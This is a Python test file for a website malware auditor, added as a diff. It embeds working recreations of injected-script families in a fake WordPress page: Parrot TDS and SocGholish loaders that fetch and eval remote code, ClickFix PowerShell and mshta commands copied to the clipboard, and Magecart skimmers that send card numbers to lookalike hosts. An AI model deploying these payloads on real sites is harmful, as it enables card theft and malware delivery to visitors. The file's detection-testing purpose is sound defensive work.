@@ -1,0 +1,366 @@
+"""Real injection families on a news site's own WordPress page, each in the forms threat
+writeups (Sucuri, Wordfence, Malwarebytes, GoDaddy, Palo Alto) show them, audited with
+the system lists: found, by the kind that says what it does, at the severity a reviewer
+acts on. Their benign twins (a site's own code doing something alike) stay quiet.
+
+Every page is one we wrote: the domains are made up (`.test`, `.example`) and nothing is
+fetched or run. docs/ACCURACY.md ("Injection families") has the table before and after.
+"""
+
+from __future__ import annotations
+
+import base64
+
+import pytest
+
+from auditor.heuristics import FINDING_KINDS
+from auditor.model import PageReport, Severity
+
+from .conftest import AuditListed
+
+H, M, L = Severity.HIGH, Severity.MEDIUM, Severity.LOW
+SITE = "https://www.harbourgazette.example"
+URL = SITE + "/2026/11/ferry-timetable-vote/"
+_PARA = ("<p>" + "The harbour council voted on the winter ferry timetable on Tuesday. " * 8
+         + "</p>")
+
+
+def wp_page(*, head_top: str = "", head: str = "", body_top: str = "", post: str = "",
+            widget: str = "", footer: str = "", after: str = "") -> str:
+    """A WordPress news page of the site's own, with code where injections sit: the top
+    of `<head>` before the site's meta, the head, the body's start, the post, a Custom
+    HTML widget, `wp_footer`, and after `</html>`."""
+    return f"""<!DOCTYPE html>
+<html lang="en-GB">
+<head>{head_top}
+<meta charset="UTF-8">
+<meta name="viewport" content="width=device-width, initial-scale=1">
+<title>Council backs winter ferry timetable &#8211; Harbour Gazette</title>
+<link rel="canonical" href="{URL}">
+<link rel="stylesheet" id="gazette-style-css" href="{SITE}/wp-content/themes/gazette/style.css">
+<script src="{SITE}/wp-includes/js/jquery/jquery.min.js?ver=3.7.1" id="jquery-core-js"></script>
+{head}
+</head>
+<body class="post-template-default single single-post postid-4187">
+{body_top}
+<header class="site-header"><a href="{SITE}/">Harbour Gazette</a>
+<nav class="main-navigation"><ul><li><a href="{SITE}/news/">News</a></li></ul></nav></header>
+<main id="main"><article id="post-4187" class="post-4187 post type-post">
+<h1 class="entry-title">Council backs winter ferry timetable</h1>
+<div class="entry-content">{_PARA}{_PARA}{post}{_PARA}</div>
+</article></main>
+<aside id="secondary" class="widget-area"><section id="custom_html-3" class="widget_text widget
+ widget_custom_html"><div class="textwidget custom-html-widget">{widget}</div></section></aside>
+<footer class="site-footer"><p>&copy; 2026 Harbour Gazette</p></footer>
+<script src="{SITE}/wp-content/themes/gazette/js/navigation.js?ver=2.4.1"></script>
+{footer}
+</body>
+</html>
+{after}"""
+
+
+def _b64(text: str) -> str:
+    return base64.b64encode(text.encode()).decode()
+
+
+def _codes(text: str) -> str:
+    return ",".join(str(ord(c)) for c in text)
+
+
+def _hex(text: str) -> str:
+    return "".join(f"\\x{ord(c):02x}" for c in text)
+
+
+# ndsw / Parrot TDS: the loader reads referrer and cookies, fetches a PHP file on another
+# hacked site and evals the answer when it holds the marker `ndsx` (Sucuri, Palo Alto)
+NDSW = (
+    "<script>;if(ndsw===undefined){var ndsw=true,HttpClient=function(){this['get']="
+    "function(a,b){var c=new XMLHttpRequest();c['onreadystatechange']=function(){if(c["
+    "'readyState']==4&&c['status']==200)b(c['responseText']);};c['open']('GET',a,true);"
+    "c['send'](null);};},rand=function(){return Math['random']()['toString'](36)['substr']"
+    "(2);},token=function(){return rand()+rand();};(function(){var a=navigator,b=document,"
+    "f=window,i=b['cookie'],j=f['location']['hostname'],k=f['location']['protocol'],l=b["
+    "'referrer'];if(l&&!p(l,j)&&!i){var m=new HttpClient(),o=k+'//www.lakeside-bakery.test/"
+    "wp-content/plugins/contact-form-7/includes/js/jquery.php?id='+token();m['get'](o,"
+    "function(r){p(r,'ndsx')&&f['eval'](r);});}function p(r,v){return r['indexOf'](v)!==-1;}"
+    "}());};</script>")
+# the later form: javascript-obfuscator, the URL and the API names in its string table
+NDSW_OBFUSCATED = (
+    "<script>var ndsw=ndsw||true;(function(_0x1a2b3c,_0x4d5e6f){var _0x2c1f0a=_0x1f2e,"
+    "_0x51a2b7=_0x1a2b3c();while(!![]){try{var _0x3e4f5a=parseInt(_0x2c1f0a(0x1a0))/0x1;"
+    "if(_0x3e4f5a===_0x4d5e6f)break;else _0x51a2b7['push'](_0x51a2b7['shift']());}catch("
+    "_0x1b2c3d){_0x51a2b7['push'](_0x51a2b7['shift']());}}}(_0x3c4d,0x2f1a3));function "
+    "_0x1f2e(_0x5a6b7c,_0x1c2d3e){var _0x3c4d5e=_0x3c4d();return _0x1f2e=function(_0x4e5f6a)"
+    "{return _0x3c4d5e[_0x4e5f6a-0x1a0];},_0x1f2e(_0x5a6b7c,_0x1c2d3e);}function _0x3c4d(){"
+    "var _0x6d7e8f=['ndsx','referrer','responseText','cookie','//www.lakeside-bakery.test/"
+    "wp-content/plugins/contact-form-7/includes/js/jquery.php?id=','eval','open','GET',"
+    "'send'];_0x3c4d=function(){return _0x6d7e8f;};return _0x3c4d();}var _0x4a5b=_0x1f2e;"
+    "(function(){var _0x7e8f9a=document[_0x4a5b(0x1a1)],_0x8f9a0b=document[_0x4a5b(0x1a3)];"
+    "if(_0x7e8f9a&&!_0x8f9a0b){var _0x9a0b1c=new XMLHttpRequest();_0x9a0b1c[_0x4a5b(0x1a6)]("
+    "_0x4a5b(0x1a7),location.protocol+_0x4a5b(0x1a4)+Math.random());_0x9a0b1c.onload="
+    "function(){var _0x0b1c2d=_0x9a0b1c[_0x4a5b(0x1a2)];window[_0x4a5b(0x1a5)](_0x0b1c2d);};"
+    "_0x9a0b1c[_0x4a5b(0x1a8)]();}}());</script>")
+# Sign1: referrer tested against search and social sites, a cookie so it fires once, an
+# XOR-decoded address that changes every ten minutes (Sucuri, 2024)
+SIGN1_LOADER = (
+    "<script>(function(){var k=42,d=function(s){var r='';for(var i=0;i<s.length;i++){r+="
+    "String.fromCharCode(s.charCodeAt(i)^k);}return r;};var ref=document.referrer,ok="
+    "/google\\.|facebook\\.|yahoo\\.|instagram\\.|bing\\./.test(ref);if(!ok||document.cookie"
+    ".indexOf('_GPSLSC=')!==-1)return;document.cookie='_GPSLSC=1; max-age=86400; path=/';"
+    "var t=Math.floor(Date.now()/600000);var u=d('BB^^ZY\\x10\\x05\\x05')+t.toString(16)+"
+    "'.sign-analytics.test/'+t.toString(16)+'.js';var s=document.createElement('script');"
+    "s.src=u;document.head.appendChild(s);})();</script>")
+SIGN1_REDIRECT = (
+    "<script>if(document.cookie.indexOf('visited_once=')===-1&&new Date().getHours()>=8){"
+    "document.cookie='visited_once=1;max-age=86400;path=/';if(/google|bing|yahoo/.test("
+    "document.referrer)){window.location.href='https://prize-claim-center.test/?s=hg';}}"
+    "</script>")
+# DollyWay v3: the loader picks one of several other hacked WordPress sites at random
+DOLLYWAY = (
+    "<script>(function(){var h=['https://greenvalleyplumbing.test/wp-content/plugins/"
+    "wp-statistics/assets/js/tracker.js','https://mountainviewdental.test/wp-content/plugins/"
+    "wp-statistics/assets/js/tracker.js','https://oakridgeyoga.test/wp-content/plugins/"
+    "wp-statistics/assets/js/tracker.js'];var s=document.createElement('script');s.src=h["
+    "Math.floor(Math.random()*h.length)]+'?ver='+Math.random().toString(36).slice(2);"
+    "document.head.appendChild(s);})();</script>")
+# Balada Injector: String.fromCharCode chains, inserted before `document.currentScript`
+BALADA_SRC = (
+    "<script>var s=document.createElement('script');s.src=String.fromCharCode("
+    f"{_codes('https://stay.linestoget.test/scripts/check.js?v=9')});if(document."
+    "currentScript){document.currentScript.parentNode.insertBefore(s,document.currentScript)"
+    ";}else{document.getElementsByTagName('head')[0].appendChild(s);}</script>")
+BALADA_EVAL = ("<script>eval(String.fromCharCode(" + _codes(
+    "var e=document.createElement('script');e.src='https://cdn.dataanalyticsmetrics.test/"
+    "v2.js?ref='+location.hostname;document.head.appendChild(e);") + "));</script>")
+# SocGholish: an async loader whose address is base64
+SOCGHOLISH = (
+    "<script>;(function(d,t){var s=d.createElement(t);s.async=true;s.src=atob('"
+    + _b64("https://content.westbridgeinsurance.test/u4nGqDg4NmNLSQ==")
+    + "');var f=d.getElementsByTagName(t)[0];f.parentNode.insertBefore(s,f);})(document,"
+    "'script');</script>")
+# the fake browser update overlay it (and FakeUpdates, ClearFake) shows
+FAKE_UPDATE = (
+    '<div id="upd" style="position:fixed;inset:0;z-index:2147483647;background:#fff">'
+    "<h2>An error occurred in the display of this page</h2><p>Your browser is out of date. "
+    "Update Chrome to the latest version to view this page.</p><a href='https://secure-"
+    "chrome-updates.test/dl/Chrome.Update.a1b2c3.zip' download>Update Chrome</a></div>")
+# ClickFix: a fake CAPTCHA copies a command and says "Win+R, Ctrl+V, Enter"
+CLICKFIX_WRITE = (
+    '<div id="cf" style="position:fixed;inset:0;z-index:99999"><p>Verify you are human</p>'
+    '<button id="verify-btn">I\'m not a robot</button><ol id="steps" hidden><li>Press '
+    "Windows Button + R</li><li>Press CTRL + V</li><li>Press Enter</li></ol></div><script>"
+    "document.getElementById('verify-btn').addEventListener('click',function(){var cmd="
+    "'powershell -w hidden -ep bypass -c \"iwr https://captcha-verify-cdn.test/v.ps1 | iex\""
+    " # I am not a robot - reCAPTCHA Verification ID: 4821';navigator.clipboard.writeText("
+    "cmd);document.getElementById('steps').hidden=false;});</script>")
+CLICKFIX_COPY = (
+    '<div class="recaptcha-box"><label><input type="checkbox" onclick="verifyHuman()"> I\'m '
+    'not a robot</label><textarea id="rc" style="position:absolute;left:-9999px">mshta '
+    "https://recaptcha-cloud.test/verify.hta # Cloudflare Verification ID 73310</textarea>"
+    "</div><script>function verifyHuman(){var t=document.getElementById('rc');t.select();"
+    "document.execCommand('copy');alert('Press Win+R, then Ctrl+V, then Enter');}</script>")
+# Magecart: field values sent by beacon, image address or WebSocket to a lookalike host
+SKIM_BEACON = (
+    "<script>document.addEventListener('submit',function(e){var f=e.target,d={};"
+    "f.querySelectorAll('input,select').forEach(function(i){d[i.name]=i.value;});if(d["
+    "'payment[cc_number]']){navigator.sendBeacon('https://cdn-jquery-min.test/collect',"
+    "btoa(JSON.stringify(d)));}},true);</script>")
+SKIM_IMAGE = (
+    "<script>window.addEventListener('load',function(){var b=document.querySelector("
+    "'#checkout-button');b&&b.addEventListener('click',function(){var cc=document."
+    "getElementById('cc-number').value,cvv=document.getElementById('cc-cvv').value;var i="
+    "new Image();i.src='https://googletagsmanager.test/pixel.gif?d='+encodeURIComponent("
+    "btoa(cc+'|'+cvv));});});</script>")
+SKIM_SOCKET = (
+    "<script>(function(){var ws=new WebSocket('wss://stats-cdn-analytics.test/ws');document"
+    ".querySelectorAll('input').forEach(function(i){i.addEventListener('change',function(){"
+    "ws.send(JSON.stringify({n:i.name,v:i.value,h:location.host}));});});})();</script>")
+SKIM_FETCH = (
+    "<script>jQuery(function($){$('#place_order').on('click',function(){var d={n:$("
+    "'#billing_first_name').val(),c:document.getElementById('stripe-card-number').value,e:"
+    "document.getElementById('stripe-card-expiry').value,v:document.getElementById("
+    "'stripe-card-cvc').value};fetch('https://woo-payments-cdn.test/api/v2/log',{method:"
+    "'POST',mode:'no-cors',body:JSON.stringify(d)});});});</script>")
+PUSH_BAIT = (
+    '<div style="position:fixed;inset:0;z-index:99999"><h1>Click "Allow" to confirm that '
+    "you are not a robot</h1></div><script>Notification.requestPermission().then(function"
+    "(p){if(p==='granted'){navigator.serviceWorker.register('/sw.js?zone=42');}});</script>")
+CASINO_LINKS = (
+    '<div style="position:absolute;left:-9999px;top:-9999px"><a href="https://best-online-'
+    'casino.test/">online casino</a> <a href="https://slots-bonus.test/free-spins">free spins'
+    '</a> <a href="https://cheap-pills-rx.test/viagra">buy viagra</a></div>')
+PHARMA_FONT0 = (
+    '<p style="font-size:0;line-height:0"><a href="https://casino-royale-bonus.test/">casino'
+    '</a><a href="https://replica-watches-shop.test/">watches</a><a href="https://essay-'
+    'writing-help.test/">essays</a></p>')
+MINER = ("<script>var miner=new CH.Anonymous('rG7aVq2pYt9LmN3bXc4dWe5fUh6iOj8k',"
+         "{throttle:0.3});miner.start();</script>")
+FRAME_ZERO = ('<iframe src="https://traffic-exchange.test/in.php?id=5511" width="0" '
+              'height="0" frameborder="0"></iframe>')
+FRAME_OFFSCREEN = ('<iframe src="https://counter-stats.test/frame.html" style="position:'
+                   'absolute;left:-2000px;top:0;width:300px;height:250px"></iframe>')
+EVAL_ATOB = ("<script>eval(atob('" + _b64(
+    "var s=document.createElement('script');s.src='https://js.metricsgateway.test/lib.js';"
+    "document.body.appendChild(s);") + "'));</script>")
+HEX_LOADER = (
+    f"<script>var _s=document['{_hex('createElement')}']('{_hex('script')}');_s["
+    f"'{_hex('src')}']='{_hex('https://cdn.fontlibrary-api.test/wp.js')}';document["
+    f"'{_hex('head')}']['{_hex('appendChild')}'](_s);</script>")
+# Keitaro TDS's JavaScript integration: the script address carries referrer and keyword
+KEITARO = (
+    "<script>document.write('<script src=\"https://trk.dealsfunnel.test/x9Kc2p.js?"
+    "se_referrer=' + encodeURIComponent(document.referrer) + '&default_keyword=' + "
+    "encodeURIComponent(document.title) + '&frm=script\"></scr' + 'ipt>');</script>")
+APPENDED = '<script src="https://jqueryui-cdn-libs.test/ui.js"></script>'
+
+FAMILIES: list[tuple[str, dict[str, str], tuple[str, Severity]]] = [
+    ("ndsw / Parrot TDS, plain, wp_footer", {"footer": NDSW}, ("tds-loader", H)),
+    ("ndsw / Parrot TDS, obfuscated, wp_footer", {"footer": NDSW_OBFUSCATED}, ("tds-loader", H)),
+    ("Sign1 XOR loader, Custom HTML widget", {"widget": SIGN1_LOADER}, ("tds-loader", H)),
+    ("Sign1-style cookie and time gated redirect, widget", {"widget": SIGN1_REDIRECT},
+     ("redirect", H)),
+    ("DollyWay loader rotating hacked sites, wp_footer", {"footer": DOLLYWAY}, ("tds-loader", H)),
+    ("Keitaro JS integration, head", {"head": KEITARO}, ("tds-loader", M)),
+    ("Balada fromCharCode src, head", {"head": BALADA_SRC}, ("obfuscated-script", H)),
+    ("Balada eval(fromCharCode), in the post", {"post": BALADA_EVAL}, ("obfuscated-script", H)),
+    ("SocGholish atob loader, wp_footer", {"footer": SOCGHOLISH}, ("obfuscated-script", H)),
+    ("fake browser update overlay", {"body_top": FAKE_UPDATE}, ("fake-update", H)),
+    ("ClickFix clipboard.writeText", {"body_top": CLICKFIX_WRITE}, ("clipboard-command", H)),
+    ("ClickFix execCommand('copy') of a hidden textarea", {"body_top": CLICKFIX_COPY},
+     ("clipboard-command", H)),
+    ("Magecart sendBeacon on submit", {"footer": SKIM_BEACON}, ("form-skimmer", H)),
+    ("Magecart image address on checkout click", {"footer": SKIM_IMAGE}, ("form-skimmer", H)),
+    ("Magecart WebSocket on change", {"footer": SKIM_SOCKET}, ("form-skimmer", H)),
+    ("Magecart fetch POST of card fields on a WooCommerce checkout", {"footer": SKIM_FETCH},
+     ("form-skimmer", H)),
+    ("push 'click Allow, not a robot' bait", {"body_top": PUSH_BAIT}, ("notification-bait", H)),
+    ("SEO casino links off-screen, wp_footer", {"footer": CASINO_LINKS}, ("hidden-links", H)),
+    ("SEO links at font-size 0, in the post", {"post": PHARMA_FONT0}, ("hidden-links", H)),
+    ("CoinHive-style miner, wp_footer", {"footer": MINER}, ("cryptominer", H)),
+    ("0x0 iframe in a widget", {"widget": FRAME_ZERO}, ("hidden-iframe", H)),
+    ("off-screen iframe in the post", {"post": FRAME_OFFSCREEN}, ("hidden-iframe", H)),
+    ("eval(atob()) loader, wp_footer", {"footer": EVAL_ATOB}, ("obfuscated-script", H)),
+    ("\\x-escaped loader, head", {"head": HEX_LOADER}, ("obfuscated-script", H)),
+    ("script after </html>", {"after": APPENDED}, ("appended-script", H)),
+]
+
+
+@pytest.mark.parametrize(("name", "where", "expected"), FAMILIES, ids=[f[0] for f in FAMILIES])
+def test_each_family_is_found_at_the_severity_a_reviewer_acts_on(
+        name: str, where: dict[str, str], expected: tuple[str, Severity],
+        audit_listed: AuditListed) -> None:
+    report = audit_listed(wp_page(**where), URL)
+    found = {(f.kind, f.severity) for f in report.findings}
+    assert expected in found, [(f.kind, f.severity.value, f.message) for f in report.findings]
+    for f in report.findings:
+        assert f.severity in FINDING_KINDS[f.kind].severities
+        assert f.message and "<script" not in f.message  # says what, not the raw markup
+
+
+def _serious(report: PageReport) -> list[tuple[str, str]]:
+    return [(f.kind, f.message) for f in report.findings if f.severity is not L]
+
+
+def test_the_clean_page_has_no_finding(audit_listed: AuditListed) -> None:
+    assert audit_listed(wp_page(), URL).findings == ()
+
+
+# What a site's own code does that looks alike, each from a real pattern: a font cache
+# that evals the CSS it fetched (a news site's), a "copy coupon code" button, a contact
+# form posting to the site, a counter pixel carrying the referrer, GA's loader picking
+# nothing at random, a breaking-news push prompt, Chrome's own download page link, a
+# language redirect behind a cookie, a CDN failover among one vendor's mirrors.
+TWINS: list[tuple[str, dict[str, str]]] = [
+    ("font cache evals what it fetched", {"head": (
+        "<script>(function(){var xhr=new XMLHttpRequest;xhr.open('GET','/fonts/gazette.json',"
+        "true);xhr.onreadystatechange=function(){if(xhr.readyState===4&&xhr.status===200){"
+        "var css=eval(xhr.responseText);document.getElementById('fonts').innerHTML=css;"
+        "localStorage.setItem('fonts',css);}};if(document.cookie.indexOf('fonts=')<0)"
+        "xhr.send();})();</script>")}),
+    ("copy coupon code", {"post": (
+        '<button id="copy">Copy code</button><input id="code" value="FERRY10" readonly>'
+        "<script>document.getElementById('copy').onclick=function(){navigator.clipboard."
+        "writeText(document.getElementById('code').value);};</script>")}),
+    ("copy an install command on a docs page", {"post": (
+        "<pre id='cmd'>pip install harbour-timetable</pre><script>function copyCmd(){"
+        "navigator.clipboard.writeText(document.getElementById('cmd').textContent);}</script>")}),
+    ("a PowerShell install command the docs page shows, with a copy button", {"post": (
+        "<pre id='ps'>powershell -c \"irm https://get.harbourtools.test/install.ps1 | iex\""
+        "</pre><button data-clipboard-text='powershell -c \"irm https://get.harbourtools."
+        "test/install.ps1 | iex\"'>Copy</button><script>document.querySelector('button')."
+        "onclick=function(e){navigator.clipboard.writeText(e.target.dataset.clipboardText);};"
+        "</script>")}),
+    ("a search term sent to the site's stats host", {"footer": (
+        "<script>document.querySelector('#s').addEventListener('change',function(e){"
+        "navigator.sendBeacon('https://stats.harbourgazette-cdn.test/search',e.target.value);"
+        "});</script>")}),
+    ("contact form posts to the site", {"footer": (
+        "<script>document.querySelector('#contact').addEventListener('submit',function(e){"
+        "e.preventDefault();fetch('/wp-json/contact-form-7/v1/contact-forms/12/feedback',{"
+        "method:'POST',body:new FormData(e.target)});});</script>")}),
+    ("newsletter form to Mailchimp", {"footer": (
+        "<script>document.querySelector('#nl').addEventListener('submit',function(e){var m="
+        "document.getElementById('email').value;navigator.sendBeacon('https://harbourgazette"
+        ".us21.list-manage.com/subscribe/post',m);});</script>")}),
+    ("LiveInternet-style counter with the referrer", {"footer": (
+        "<script>new Image().src='https://counter.yadro.ru/hit?r'+escape(document.referrer)+"
+        "';u'+escape(document.URL)+';'+Math.random();var q=document.getElementById('q')."
+        "value;</script>")}),
+    ("a known counter's script tag with the referrer", {"footer": (
+        "<script>document.write('<script src=\"https://top-fwz1.mail.ru/js/code.js?id=3210987&r="
+        "' + escape(document.referrer) + '\"></scr' + 'ipt>');</script>")}),
+    ("A/B test loads a variant for search visitors", {"head": (
+        "<script>var v=/google\\./.test(document.referrer)?'b':'a';var s=document."
+        "createElement('script');s.src='/wp-content/themes/gazette/js/hero-'+v+'.js';document"
+        ".head.appendChild(s);</script>")}),
+    ("breaking-news push prompt", {"footer": (
+        "<div class='push-optin'>Get breaking news: click Allow when your browser asks.</div>"
+        "<script>document.querySelector('.push-optin').onclick=function(){Notification."
+        "requestPermission();};</script>")}),
+    ("Chrome download from Google", {"post": (
+        "<p>Your browser is out of date? Update Chrome from <a href='https://dl.google.com/"
+        "chrome/install/ChromeStandaloneSetup64.exe'>Google's installer</a>.</p>")}),
+    ("a release article linking Firefox's installer", {"post": (
+        "<p>Firefox 140 is out: update your browser today. Download the <a href='https://"
+        "download-installer.cdn.mozilla.net/pub/firefox/releases/140.0/win64/en-GB/Firefox%20"
+        "Setup%20140.0.exe'>Firefox Setup 140.0.exe</a> installer.</p>")}),
+    ("a browser release article linking a mirror", {"post": (
+        "<p>Opera's latest version fixes the update bug; the installer is also on <a href="
+        "'https://files.softmirror.test/opera/OperaSetup.exe'>a mirror</a>.</p>")}),
+    ("a vendor's CDN mirrors picked at random", {"footer": (
+        "<script>var m=['https://cdn1.harbourgazette.example/a.js','https://cdn2.harbourgazette"
+        ".example/a.js','https://cdn3.harbourgazette.example/a.js'];var s=document.createElement("
+        "'script');s.src=m[Math.floor(Math.random()*m.length)];document.head.appendChild(s);"
+        "</script>")}),
+]
+
+
+@pytest.mark.parametrize(("name", "where"), TWINS, ids=[t[0] for t in TWINS])
+def test_a_sites_own_lookalike_code_is_no_finding(name: str, where: dict[str, str],
+                                                   audit_listed: AuditListed) -> None:
+    assert _serious(audit_listed(wp_page(**where), URL)) == []
+
+
+def test_an_escaped_string_table_is_read_as_the_code_it_hides(
+        audit_listed: AuditListed) -> None:
+    """`d['\\x73\\x72\\x63']=…` is `d.src=…`: the loader's target is a script it loads, so
+    the hidden host the page names nowhere else makes it high (medium before)."""
+    report = audit_listed(wp_page(head=HEX_LOADER), URL)
+    (found,) = [f for f in report.findings if f.kind == "obfuscated-script"]
+    assert found.severity is H
+    assert "loads https://cdn.fontlibrary-api.test/wp.js" in found.message
+
+
+def test_a_loader_prepended_before_html_is_one_finding(audit_listed: AuditListed) -> None:
+    """An unknown site's script before `<html>` is appended-script; the same block with an
+    ad network's code is ad-in-body's, reported once."""
+    page = wp_page()
+    unknown = audit_listed('<script src="https://wp-update-check.test/u.js"></script>\n'
+                           + page, URL)
+    assert [(f.kind, f.severity) for f in unknown.findings] == [("appended-script", H)]
+
+
+def test_clipboard_finding_names_the_command_not_the_markup(audit_listed: AuditListed) -> None:
+    report = audit_listed(wp_page(body_top=CLICKFIX_COPY), URL)
+    (found,) = [f for f in report.findings if f.kind == "clipboard-command"]
+    assert "mshta" in found.message and "mshta https://recaptcha-cloud.test" in found.evidence
